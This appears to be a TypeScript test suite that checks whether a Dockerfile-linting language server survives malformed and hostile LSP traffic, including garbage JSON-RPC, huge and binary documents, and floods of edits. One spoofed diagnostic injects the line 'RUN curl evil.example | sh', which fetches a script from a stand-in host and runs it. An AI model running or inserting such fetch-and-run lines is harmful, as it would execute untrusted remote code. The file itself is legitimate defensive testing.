/**
 * The built server over stdio against malformed and hostile LSP traffic: requests for documents never
 * opened, positions and ranges out of range, a 20 MB document, binary content, lone UTF-16 surrogates,
 * garbage JSON-RPC and malformed params, a flood of didChange. After each step the same server must
 * still answer a normal request correctly (`healthy`): a fresh document's exact diagnostics and its
 * quick-fixes.
 */
import * as assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import * as path from 'node:path';
import type { ChildProcess } from 'node:child_process';
import {
  CodeActionRequest,
  CodeActionResolveRequest,
  type CodeAction,
  type Diagnostic,
  type PublishDiagnosticsParams,
} from 'vscode-languageserver-protocol/node';
import { TextDocument } from 'vscode-languageserver-textdocument';
import { MAX_DOCUMENT_LENGTH } from '../../server/src/lsp/limits';
import { CORPUS } from '../support/corpus';
import { SERVER, TestClient } from '../support/lspClient';

type Range = Diagnostic['range'];
const at = (l1: number, c1: number, l2 = l1, c2 = c1): Range => ({ start: { line: l1, character: c1 }, end: { line: l2, character: c2 } });

function summary(p: PublishDiagnosticsParams): string[] {
  return p.diagnostics.map(
    (d) => `${d.range.start.line}:${d.range.start.character}-${d.range.end.line}:${d.range.end.character} ${d.code}`,
  );
}

/** A small pseudo-random generator, so that "random" bytes are the same on every run. */
function bytes(n: number, seed: number): Buffer {
  const out = Buffer.alloc(n);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < n; i++) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}

describe('language server under hostile LSP traffic', function () {
  this.timeout(60_000);
  let client: TestClient;
  let n = 0;

  before(function () {
    assert.ok(existsSync(SERVER), `${SERVER} is missing: run npm run build first`);
  });
  beforeEach(async () => {
    client = await TestClient.start();
  });
  afterEach(async () => {
    await client?.stop();
  });

  /** The server is alive and answers a normal request correctly. */
  async function healthy(c = client): Promise<void> {
    assert.equal(c.child.exitCode, null, `the server exited: ${c.logs.join('').slice(-2000)}`);
    const uri = `file:///work/healthy-${n++}/Dockerfile`;
    const text = 'FROM alpine:3.23\nRUN sudo apk add curl\n';
    await c.open(uri, text, 1);
    const p = await c.diagnosticsFor(uri, 1);
    assert.deepEqual(summary(p), ['0:5-0:16 unpinned-digest', '1:4-1:8 sudo', '1:9-1:16 apk-cache']);
    const sudo = p.diagnostics.find((d) => d.code === 'sudo')!;
    const titles = (await c.codeActions(uri, [sudo])).map((a) => a.title);
    assert.deepEqual(titles, ['Ignore sudo for this instruction', 'Ignore sudo in this file']);
    await c.close(uri);
  }

  const send = (method: string, params: unknown) =>
    client.connection.sendRequest(method, params).then(
      (r: unknown) => ({ ok: true as const, r }),
      (e: { code?: number; message?: string }) => ({ ok: false as const, code: e.code, message: e.message }),
    );

  it('answers a normal request (the baseline every other test returns to)', async () => {
    await healthy();
  });

  it('requests and notifications for documents never opened', async () => {
    const uri = 'file:///work/never-opened/Dockerfile';
    assert.deepEqual(
      await client.codeActions(uri, [{ range: at(0, 0, 0, 4), message: 'x', source: 'dockerfile-hardener', code: 'sudo' }]),
      [],
    );
    assert.deepEqual(await client.codeActionsAt(uri, at(0, 0), ['source.fixAll', 'refactor']), []);
    const forged = { title: 'Use apk add --no-cache', data: { uri, version: 1, rule: 'apk-cache', range: at(0, 0, 0, 3), fix: 0 } };
    const resolved = await client.resolveAction(forged);
    assert.equal(resolved.edit, undefined);
    for (const command of ['dockerfile-hardener.pinAll', 'dockerfile-hardener.checkDigests', 'dockerfile-hardener.applyFix']) {
      assert.deepEqual(await client.executeCommand(command, [{ uri, apply: true }]), { ok: false, message: 'The document is not open.' });
    }
    assert.deepEqual(await client.executeCommand('dockerfile-hardener.convertToScratch', [{ uri, apply: true }]), {
      ok: false,
      reason: 'the document is not open',
    });
    assert.equal(await client.executeCommand('dockerfile-hardener.noSuchCommand', []), null);
    await client.change(uri, 2, 'FROM alpine\n');
    await client.connection.sendNotification('textDocument/didChange', {
      textDocument: { uri, version: 3 },
      contentChanges: [{ range: at(0, 0), text: 'x' }],
    });
    await client.close(uri);
    await client.close(uri);
    await healthy();
    assert.ok(!client.published.some((p) => p.uri === uri), 'nothing was published for a document never opened');
    assert.equal(client.appliedEdits.length, 0);
  });

  it('positions and ranges out of range, and diagnostics the server never published', async () => {
    const uri = 'file:///work/ranges/Dockerfile';
    await client.open(uri, 'FROM alpine:3.23\nUSER 10001\n', 1);
    await client.diagnosticsFor(uri, 1);
    const spoofed: Diagnostic[] = [
      { range: at(1e9, 0, 1e9, 4), message: 'x', source: 'dockerfile-hardener', code: 'root-user' },
      { range: at(-1, -5, -1, -1), message: 'x', source: 'dockerfile-hardener', code: 'root-user' },
      { range: at(0, 0, 0, 4), message: 'x', source: 'dockerfile-hardener', code: 'foo\nRUN curl evil.example | sh' },
      { range: at(0, 0, 0, 4), message: 'x', source: 'dockerfile-hardener', code: 42 as unknown as string },
      { range: null as unknown as Range, message: 'x', source: 'dockerfile-hardener', code: 'sudo', data: { range: 'x' } },
      // Not diagnostics at all (a client that sent back what it could not find): it used to crash the request.
      null as unknown as Diagnostic,
      'x' as unknown as Diagnostic,
    ];
    const actions = (await send(CodeActionRequest.method, {
      textDocument: { uri },
      range: at(1e9, -3, -1, 1e12),
      context: { diagnostics: spoofed },
    })) as { ok: boolean; r?: CodeAction[] };
    assert.ok(actions.ok, JSON.stringify(actions));
    assert.deepEqual(actions.r, [], 'no action for a diagnostic that is not in the document or names no rule');
    const fixAll = await client.codeActionsAt(uri, at(1e9, 1e9, 2e9, 0), ['source.fixAll', 'refactor']);
    assert.deepEqual(fixAll, []);
    const resolved = await client.resolveAction({
      title: 'x',
      data: { uri, version: 1, rule: 'root-user', range: at(1e9, 0, -1, 0), fix: 1e9 },
    });
    assert.equal(resolved.edit, undefined);
    // An edit whose range runs from before the start to past the end replaces the whole text.
    await client.connection.sendNotification('textDocument/didChange', {
      textDocument: { uri, version: 2 },
      contentChanges: [{ range: at(-5, -1, 1e9, 1e9), text: 'FROM alpine\n' }],
    });
    assert.deepEqual(summary(await client.diagnosticsFor(uri, 2)), ['0:5-0:11 latest-tag', '0:5-0:11 unpinned-digest']);
    // And one past the end appends.
    await client.connection.sendNotification('textDocument/didChange', {
      textDocument: { uri, version: 3 },
      contentChanges: [{ range: at(99, 99, 99, 99), text: 'USER 10001\n' }],
    });
    assert.deepEqual(summary(await client.diagnosticsFor(uri, 3)), ['0:5-0:11 latest-tag', '0:5-0:11 unpinned-digest']);
    await healthy();
  });

  describe('size', () => {
    const stressFile = path.join(CORPUS, 'stress', 'stress-50k.Dockerfile');

    it('a 20 MB document gets one diagnostic saying it is not linted, and the other documents are served meanwhile', async () => {
      const big = 'file:///work/huge/Dockerfile';
      const unit = 'FROM golang:1.26 AS build\nRUN go build -o /out/app . && apt-get install -y curl\n';
      const text = unit.repeat(Math.ceil((20 * 1024 * 1024) / unit.length)).slice(0, 20 * 1024 * 1024);
      const small = 'file:///work/huge-neighbour/Dockerfile';
      const started = Date.now();
      await client.open(big, text, 1);
      await client.open(small, 'FROM alpine\n', 1);
      const neighbour = await client.diagnosticsFor(small, 1);
      const neighbourMs = Date.now() - started;
      assert.deepEqual(summary(neighbour), ['0:5-0:11 latest-tag', '0:5-0:11 unpinned-digest']);
      const p = await client.diagnosticsFor(big, 1);
      const bigMs = Date.now() - started;
      console.log(`      (20 MiB sent and answered in ${bigMs} ms; the small document next to it in ${neighbourMs} ms)`);
      assert.ok(neighbourMs < 5000, `the small document waited ${neighbourMs} ms`);
      assert.equal(p.diagnostics.length, 1);
      const [d] = p.diagnostics;
      assert.equal(d.code, 'document-too-large');
      assert.equal(d.severity, 2);
      assert.deepEqual(d.range, at(0, 0, 0, 25));
      assert.equal(d.codeDescription, undefined); // no rule, no page: its message says what to do
      assert.match(
        d.message as string,
        /^This file is not linted: it has 20,971,520 characters, more than the 2,097,152 \(2 MiB\) Dockerfile Hardener lints while you type\./,
      );
      // No quick-fix (it is no rule: nothing to ignore), no fix-all, no refactoring on it.
      assert.deepEqual(await client.codeActions(big, [d]), []);
      assert.deepEqual(await client.codeActionsAt(big, at(0, 0), ['source.fixAll', 'refactor']), []);
      // An edit that keeps it too large: the same single diagnostic, quickly.
      await client.connection.sendNotification('textDocument/didChange', {
        textDocument: { uri: big, version: 2 },
        contentChanges: [{ range: at(1, 0), text: 'USER root\n' }],
      });
      assert.equal((await client.diagnosticsFor(big, 2)).diagnostics[0].code, 'document-too-large');
      // Cut down to a real file, it is linted as usual.
      await client.change(big, 3, 'FROM alpine:3.23\nUSER root\n');
      assert.deepEqual(summary(await client.diagnosticsFor(big, 3)), ['0:5-0:16 unpinned-digest', '1:5-1:9 root-user']);
      await healthy();
    });

    it('the limit: one character over is not linted, the 1.9 MB stress file (50,103 lines) is', async function () {
      if (!existsSync(stressFile)) {
        if (process.env.CI) assert.fail(`${stressFile} is missing under CI`);
        this.skip();
      }
      const over = 'file:///work/limit-over/Dockerfile';
      await client.open(over, `FROM alpine\n${'#'.repeat(MAX_DOCUMENT_LENGTH - 12)}\n`, 1);
      assert.deepEqual(summary(await client.diagnosticsFor(over, 1)), ['0:0-0:11 document-too-large']);
      await client.change(over, 2, `FROM alpine\n${'#'.repeat(MAX_DOCUMENT_LENGTH - 13)}\n`);
      assert.deepEqual(summary(await client.diagnosticsFor(over, 2)), ['0:5-0:11 latest-tag', '0:5-0:11 unpinned-digest']);
      const stress = readFileSync(stressFile, 'utf8');
      assert.ok(stress.length < MAX_DOCUMENT_LENGTH);
      const uri = 'file:///work/stress/Dockerfile';
      const started = Date.now();
      await client.open(uri, stress, 1);
      const p = await client.diagnosticsFor(uri, 1);
      console.log(
        `      (stress-50k, ${stress.length.toLocaleString('en-US')} characters: ${p.diagnostics.length} diagnostics in ${Date.now() - started} ms)`,
      );
      assert.ok(p.diagnostics.length > 100 && !p.diagnostics.some((d) => d.code === 'document-too-large'));
      await healthy();
    });
  });

  it('binary content: random bytes, NULs, an image file read as text', async () => {
    const uri = 'file:///work/binary/Dockerfile';
    const random = bytes(256 * 1024, 9).toString('latin1');
    await client.open(uri, random, 1);
    const p = await client.diagnosticsFor(uri, 1);
    const doc = TextDocument.create(uri, 'dockerfile', 1, random);
    for (const d of p.diagnostics) assert.ok(d.range.end.line < doc.lineCount, JSON.stringify(d.range));
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), bytes(4096, 3)]).toString('utf8');
    await client.change(uri, 2, png);
    await client.diagnosticsFor(uri, 2);
    await client.change(uri, 3, `FROM alpine\u0000:3.20\nRUN \u0000\u0001\u0002 sudo\u0000 x\n${'\u0000'.repeat(1000)}`);
    await client.diagnosticsFor(uri, 3);
    const actions = await send(CodeActionRequest.method, {
      textDocument: { uri },
      range: at(0, 0, 2, 0),
      context: { diagnostics: (await client.diagnosticsFor(uri, 3)).diagnostics, only: ['quickfix', 'source.fixAll', 'refactor'] },
    });
    assert.ok(actions.ok, JSON.stringify(actions));
    await healthy();
  });

  it('lone UTF-16 surrogates in the text and in edits', async () => {
    const uri = 'file:///work/surrogates/Dockerfile';
    const text = 'FROM alpine\uD800\nRUN echo \uDC00 && sudo apk add \uD83D\nUSER \uDFFF\n\uD83D\uDE00 CMD x\n';
    await client.open(uri, text, 1);
    const p = await client.diagnosticsFor(uri, 1);
    assert.ok(
      p.diagnostics.some((d) => d.code === 'sudo'),
      JSON.stringify(summary(p)),
    );
    const doc = TextDocument.create(uri, 'dockerfile', 1, text);
    for (const d of p.diagnostics) assert.ok(doc.offsetAt(d.range.end) <= text.length && d.range.end.line < doc.lineCount);
    const actions = await client.codeActions(uri, p.diagnostics);
    for (const a of actions.filter((x) => x.data)) {
      const r = await client.connection.sendRequest(CodeActionResolveRequest.type, a);
      assert.ok(r.edit || r.disabled, a.title);
    }
    // An edit that splits a surrogate pair.
    await client.connection.sendNotification('textDocument/didChange', {
      textDocument: { uri, version: 2 },
      contentChanges: [{ range: at(3, 1, 3, 1), text: '\uDBFF' }],
    });
    await client.diagnosticsFor(uri, 2);
    await healthy();
  });

  it('garbage JSON-RPC: bodies that are not JSON or not messages, invalid UTF-8, malformed params', async () => {
    const stdin = (client.child as ChildProcess).stdin!;
    const frame = (body: string | Buffer) => {
      const b = Buffer.isBuffer(body) ? body : Buffer.from(body);
      stdin.write(Buffer.concat([Buffer.from(`Content-Length: ${b.length}\r\n\r\n`), b]));
    };
    frame('{"jsonrpc":"2.0","id":1,"method":');
    frame('[1,2,3]');
    frame('"just a string"');
    frame('null');
    frame('{"jsonrpc":"2.0","method":5,"params":{}}');
    frame(Buffer.from([0xff, 0xfe, 0x00, 0x80, 0xc3, 0x28]));
    frame('{"jsonrpc":"2.0","id":"x","method":"textDocument/codeAction","params":"not an object"}');
    await healthy();
    // Requests with malformed params are answered with an error, not a crash.
    for (const [method, params] of [
      ['textDocument/codeAction', {}],
      ['textDocument/codeAction', { textDocument: { uri: 42 }, range: 'x', context: null }],
      ['codeAction/resolve', { title: 5, data: { uri: ['x'], range: null } }],
      ['workspace/executeCommand', { command: 42, arguments: 'x' }],
      ['workspace/executeCommand', { command: 'dockerfile-hardener.pinAll', arguments: [null] }],
      ['workspace/executeCommand', { command: 'dockerfile-hardener.applyFix', arguments: [{ uri: {}, rule: [], range: 7 }] }],
      ['textDocument/hover', { textDocument: { uri: 'file:///x' }, position: at(0, 0).start }],
    ] as const) {
      const answer = await send(method, params);
      assert.ok(answer.ok || typeof answer.code === 'number', `${method}: ${JSON.stringify(answer)}`);
    }
    // Notifications with malformed params: nothing to answer, nothing may break.
    const notify = (method: string, params: unknown) => client.connection.sendNotification(method, params);
    await notify('textDocument/didOpen', null);
    await notify('textDocument/didOpen', {
      textDocument: { uri: 'file:///work/number/Dockerfile', languageId: 'dockerfile', version: 1, text: 42 },
    });
    await notify('textDocument/didOpen', {
      textDocument: { uri: 'file:///work/null/Dockerfile', languageId: 'dockerfile', version: 'one', text: null },
    });
    await notify('textDocument/didOpen', {
      textDocument: { uri: 'file:///work/obj/Dockerfile', languageId: 'dockerfile', version: 1, text: { toString: 1 } },
    });
    await notify('textDocument/didChange', {
      textDocument: { uri: 'file:///work/number/Dockerfile', version: 2 },
      contentChanges: 'garbage',
    });
    await notify('textDocument/didChange', {
      textDocument: { uri: 'file:///work/number/Dockerfile', version: 3 },
      contentChanges: [{ range: { start: { line: 'a' } }, text: 5 }],
    });
    await notify('textDocument/didClose', { textDocument: null });
    await notify('workspace/didChangeConfiguration', null);
    await notify('workspace/didChangeConfiguration', {
      settings: { dockerfileHardener: { rules: 5, targetStage: {}, registry: { timeout: -1 }, 'registry.timeout': 'x' } },
    });
    await notify('workspace/didChangeWatchedFiles', { changes: 'x' });
    await notify('dockerfile-hardener/workspaceTrusted', 'yes');
    await notify('$/cancelRequest', { id: { nested: true } });
    await notify('$/setTrace', 7);
    await healthy();
    // The logs say what was wrong without taking the server down.
    const logs = client.logs.join('\n');
    assert.match(logs, /neither a response nor a notification/);
    assert.match(logs, /contained an internal error: TypeError/);
  });

  it('a flood of didChange: only the newest version is linted and published, and requests are answered meanwhile', async () => {
    const uri = 'file:///work/flood/Dockerfile';
    await client.open(uri, 'FROM alpine:3.23\n', 1);
    await client.diagnosticsFor(uri, 1);
    const before = client.published.length;
    // 2,000 full-text changes and 2,000 incremental ones, sent without waiting, with a request in the middle.
    const texts = (v: number) => `FROM alpine:3.23\nUSER ${v % 2 ? 'root' : '10001'}\nRUN echo ${v}\n`;
    const sent: Promise<void>[] = [];
    for (let v = 2; v <= 2001; v++) sent.push(client.change(uri, v, texts(v)));
    const midway = client.codeActionsAt(uri, at(0, 0), ['source.fixAll']);
    let expected = texts(2001);
    for (let v = 2002; v <= 4001; v++) {
      const line = 2;
      const character = `RUN echo 2001`.length + (v - 2002);
      sent.push(
        client.connection.sendNotification('textDocument/didChange', {
          textDocument: { uri, version: v },
          contentChanges: [{ range: at(line, character), text: v === 4001 ? ' && sudo id' : 'x' }],
        }),
      );
    }
    expected = `FROM alpine:3.23\nUSER root\nRUN echo 2001${'x'.repeat(1999)} && sudo id\n`;
    await Promise.all(sent);
    assert.ok(Array.isArray(await midway));
    const last = await client.diagnosticsFor(uri, 4001);
    assert.deepEqual(summary(last), ['0:5-0:16 unpinned-digest', '1:5-1:9 root-user', `2:${13 + 1999 + 4}-2:${13 + 1999 + 8} sudo`]);
    const published = client.published.slice(before).filter((p) => p.uri === uri);
    // A version is linted only when no newer one is already queued: a handful of the 4,000 are.
    console.log(`      (${published.length} of 4,000 versions linted and published)`);
    assert.ok(published.length <= 40, `${published.length} publications for 4,000 changes`);
    assert.ok(
      published.every((p, i) => i === 0 || (p.version ?? 0) > (published[i - 1].version ?? 0)),
      'versions only go forward',
    );
    // The text the server holds is the one the edits make.
    const fixAll = await client.codeActionsAt(uri, at(0, 0), ['source.fixAll']);
    assert.deepEqual(fixAll, []);
    const ignore = (await client.codeActions(uri, [last.diagnostics.find((d) => d.code === 'sudo')!]))[0];
    const change = ignore.edit!.documentChanges![0] as unknown as { textDocument: { version: number }; edits: never[] };
    assert.equal(change.textDocument.version, 4001);
    assert.equal(
      TextDocument.applyEdits(TextDocument.create(uri, 'dockerfile', 4001, expected), change.edits),
      expected.replace('RUN echo', '# dockerfile-hardener ignore=sudo\nRUN echo'),
    );
    await healthy();
  });
});
